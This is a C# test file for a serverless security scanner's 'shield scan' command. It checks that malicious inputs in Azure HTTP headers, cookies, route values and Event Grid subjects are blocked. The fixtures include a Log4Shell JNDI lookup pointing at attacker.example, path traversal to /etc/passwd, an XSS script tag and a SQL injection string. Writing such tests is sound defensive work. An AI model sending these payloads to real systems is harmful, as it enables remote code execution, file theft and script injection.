namespace ServerlessShield.Cli.Tests;

// `shield scan` replays an Azure HTTP envelope with the worker adapter's HTTP inputs: selected headers, cookies and route
// values are inspected, credentials never; an Event Grid delivery with each event's subject beside its data.
public class ScanAzureHttpInputsTests
{
    [Fact]
    public async Task Scan_AzureHttpEnvelope_InspectsHeadersAndRouteValues_NotCredentials()
    {
        var folder = Directory.CreateTempSubdirectory("shield-scan-http-");
        try
        {
            await File.WriteAllTextAsync(Path.Combine(folder.FullName, "user-agent.json"), Envelope(
                "\"headers\": { \"User-Agent\": \"${jndi:ldap://attacker.example/a}\" }"));
            await File.WriteAllTextAsync(Path.Combine(folder.FullName, "route.json"), Envelope(
                "\"route\": { \"name\": \"../../etc/passwd\" }"));
            await File.WriteAllTextAsync(Path.Combine(folder.FullName, "cookie.json"), Envelope(
                "\"headers\": { \"Cookie\": \"session=abc123; theme=<script>alert(1)</script>\" }"));
            await File.WriteAllTextAsync(Path.Combine(folder.FullName, "credential.json"), Envelope(
                "\"headers\": { \"Authorization\": \"Bearer ' OR 1=1 --\", \"User-Agent\": \"Mozilla/5.0 (X11; Linux x86_64)\" }"));

            var (exit, stdout, stderr) = await ShieldProcess.RunAsync("scan", folder.FullName);

            Assert.Equal(0, exit);
            Assert.Equal(string.Empty, stderr);
            Assert.Matches(@"user-agent\.json.*block.*SHIELD1009", stdout);
            Assert.Matches(@"route\.json.*block.*SHIELD1005", stdout);
            Assert.Matches(@"cookie\.json.*block.*SHIELD1003", stdout);
            Assert.Matches(@"credential\.json.*allow", stdout);
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Fact]
    public async Task Scan_EventGridDelivery_InspectsEachEventsSubject()
    {
        var folder = Directory.CreateTempSubdirectory("shield-scan-grid-");
        try
        {
            const string Event = "{{ \"id\": \"{0}\", \"topic\": \"/subscriptions/s/resourceGroups/r/providers/Microsoft.Storage/storageAccounts/a\", "
                + "\"subject\": \"{1}\", \"eventType\": \"Microsoft.Storage.BlobCreated\", \"eventTime\": \"2026-11-29T10:00:00Z\", "
                + "\"dataVersion\": \"1\", \"data\": {{ \"contentType\": \"application/pdf\" }} }}";
            await File.WriteAllTextAsync(Path.Combine(folder.FullName, "clean.json"),
                "[" + string.Format(System.Globalization.CultureInfo.InvariantCulture, Event, "e-1", "/blobServices/default/containers/uploads/blobs/report.pdf") + "]");
            await File.WriteAllTextAsync(Path.Combine(folder.FullName, "subject.json"),
                "[" + string.Format(System.Globalization.CultureInfo.InvariantCulture, Event, "e-2", "/blobServices/default/containers/uploads/blobs/..%2f..%2f..%2fetc%2fpasswd") + "]");

            var (exit, stdout, stderr) = await ShieldProcess.RunAsync("scan", folder.FullName);

            Assert.Equal(0, exit);
            Assert.Equal(string.Empty, stderr);
            Assert.Matches(@"clean\.json.*allow", stdout);
            Assert.Matches(@"subject\.json.*block.*SHIELD1005", stdout);
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static string Envelope(string request) =>
        "{ \"$shield\": { \"platform\": \"azure\", \"trigger\": \"httpTrigger\", \"function\": \"orders\" }, "
        + "\"http\": { \"method\": \"GET\", \"url\": \"https://app.azurewebsites.net/api/orders/42\", " + request + " } }";
}
